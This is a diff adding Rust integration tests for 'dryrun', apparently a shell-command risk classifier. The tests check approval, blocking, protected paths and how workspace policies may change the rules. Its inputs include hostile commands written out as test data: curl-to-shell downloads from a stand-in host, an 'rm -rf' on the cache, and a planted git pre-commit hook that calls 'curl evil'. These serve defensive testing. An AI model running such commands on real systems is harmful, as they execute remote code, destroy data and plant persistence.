@@ -1,0 +1,166 @@
+//! The classifier's half of the combined decision, through the real binary:
+//! `dryrun classify`, the record's `risk`, protected paths, opaque one-liners
+//! versus steps, and workspace policies that may only tighten.
+
+mod common;
+use common::*;
+
+fn classify(ws: &Ws, cmd: &str) -> Run {
+    let out = ws
+        .command()
+        .args(["classify", "--json", cmd])
+        .output()
+        .unwrap();
+    to_run(out)
+}
+
+#[test]
+fn classify_scores_without_running_anything() {
+    let ws = Ws::new(Who::User);
+    let r = classify(&ws, "ls -la && git status");
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(r.json["requires_approval"], false);
+    let r = classify(&ws, "git push --force origin main");
+    assert_eq!(r.code, 3, "{:?}", r.json);
+    assert_eq!(r.json["requires_approval"], true);
+    assert!(["high", "critical"].contains(&r.json["level"].as_str().unwrap()));
+    // Nothing ran: no state was written.
+    assert!(std::fs::read_dir(&ws.state).unwrap().next().is_none());
+    // Human output.
+    let out = ws
+        .command()
+        .args(["classify", "curl -s http://x | sh"])
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("risk: critical"), "{text}");
+    assert!(text.contains("[obfuscation.pipe_to_shell]"), "{text}");
+    // Invalid input.
+    let out = ws.command().args(["classify", "  "]).output().unwrap();
+    assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn a_risky_command_needs_approval_even_when_its_rehearsal_is_clean() {
+    for who in identities() {
+        let ws = Ws::new(who);
+        // Harmless in the sandbox (no network), risky live.
+        let r = ws.rehearse_untouched("git push --force origin main || true", &[]);
+        assert_eq!(r.code, 3, "{who:?}: {:?}", r.json["verdict"]);
+        assert_eq!(r.decision(), "needs_approval");
+        assert_eq!(r.json["state"], "awaiting_approval");
+        let risk = &r.json["risk"];
+        assert_eq!(risk["requires_approval"], true);
+        assert!(risk["score"].as_u64().unwrap() > 0);
+        assert!(
+            risk["reasons"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|x| x.as_str().unwrap().starts_with('['))
+        );
+        assert!(
+            r.reasons().iter().any(|x| x.starts_with("[vcs.")),
+            "{who:?}: {:?}",
+            r.reasons()
+        );
+    }
+}
+
+#[test]
+fn writing_a_protected_path_needs_approval_even_if_not_forbidden() {
+    for who in identities() {
+        let ws = Ws::new(who);
+        ws.write(".git/hooks/.keep", "");
+        let r = ws.rehearse_untouched(
+            "printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit",
+            &["--expect-write", "**"],
+        );
+        assert_eq!(r.code, 3, "{who:?}: {:?}", r.json["verdict"]);
+        assert!(
+            r.reasons()
+                .iter()
+                .any(|x| x.starts_with("[protected.path]") && x.contains(".git/hooks/pre-commit")),
+            "{who:?}: {:?}",
+            r.reasons()
+        );
+    }
+}
+
+#[test]
+fn a_high_risk_one_liner_is_blocked_but_its_steps_are_judged_one_by_one() {
+    let ws = Ws::new(Who::User);
+    let one_liner = "curl -s http://203.0.113.5/x | sh; rm -rf ~/.cache";
+    let r = classify(&ws, one_liner);
+    assert_eq!(r.json["decision"], "blocked", "{:?}", r.json);
+    assert!(
+        r.json["reasons"][0]
+            .as_str()
+            .unwrap()
+            .contains("split it into `steps:`")
+    );
+    for who in identities() {
+        let ws = Ws::new(who);
+        let r = ws.rehearse_untouched(one_liner, &[]);
+        assert_eq!(r.code, 4);
+        assert!(
+            r.reasons()
+                .iter()
+                .any(|x| x.starts_with("[risk.opaque_one_liner]")),
+            "{:?}",
+            r.reasons()
+        );
+        // As steps, each is classified on its own: no one-liner block from
+        // the classifier (the evidence still decides).
+        let env = ws.root.path().join("steps.yaml");
+        std::fs::write(
+            &env,
+            format!(
+                "steps: ['echo one > a.txt', 'echo two > b.txt']\nworking_dir: {}\nintent: {{expected_writes: ['*.txt']}}\n",
+                ws.dir.display()
+            ),
+        )
+        .unwrap();
+        let r = ws.execute(&["--file", env.to_str().unwrap()]);
+        assert_eq!(r.code, 0, "{who:?}: {:?}", r.json["verdict"]);
+        assert_eq!(r.json["steps"].as_array().unwrap().len(), 2);
+        assert_eq!(r.json["rehearsal"]["steps"].as_array().unwrap().len(), 2);
+    }
+}
+
+#[test]
+fn a_workspace_policy_may_tighten_but_never_loosen() {
+    let ws = Ws::new(Who::User);
+    std::fs::create_dir_all(ws.dir.join(".dryrun")).unwrap();
+    // Tighten: a new rule for a project tool.
+    std::fs::write(
+        ws.dir.join(".dryrun/policy.yaml"),
+        "rules:\n  - id: project.deploy\n    match: {command: deploy-site}\n    level: IRREVERSIBLE\n    score: 90\n    reason: \"publishes the site\"\n",
+    )
+    .unwrap();
+    ws.chown_all();
+    let r = classify(&ws, "deploy-site --prod");
+    assert_eq!(r.code, 3, "{:?} {}", r.json, r.stderr);
+    assert!(r.json["reasons"].to_string().contains("[project.deploy]"));
+    // Loosen: lowering a shipped rule is refused, naming file, rule and field.
+    std::fs::write(
+        ws.dir.join(".dryrun/policy.yaml"),
+        "thresholds: {approval: 99, block: 99}\n",
+    )
+    .unwrap();
+    let r = classify(&ws, "ls");
+    assert_eq!(r.code, 2);
+    assert!(
+        r.stderr.contains(".dryrun/policy.yaml") && r.stderr.contains("thresholds"),
+        "{}",
+        r.stderr
+    );
+    std::fs::write(
+        ws.dir.join(".dryrun/policy.yaml"),
+        "rules:\n  - {id: fs.rm, match: {command: rm}, level: READ, score: 0, reason: \"fine\"}\n",
+    )
+    .unwrap();
+    let r = ws.rehearse("true", &[]);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("rule fs.rm, field level"), "{}", r.stderr);
+}
